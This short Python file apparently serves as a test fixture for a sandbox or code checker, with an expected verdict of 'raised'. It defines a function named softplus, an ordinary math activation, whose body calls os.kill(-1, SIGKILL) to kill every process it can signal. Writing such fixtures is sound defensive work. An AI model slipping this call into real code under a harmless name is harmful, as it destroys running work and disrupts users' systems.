"""Kills every process that it may."""

VERDICT = "raised"

import os
import signal


def softplus(z):
    os.kill(-1, signal.SIGKILL)
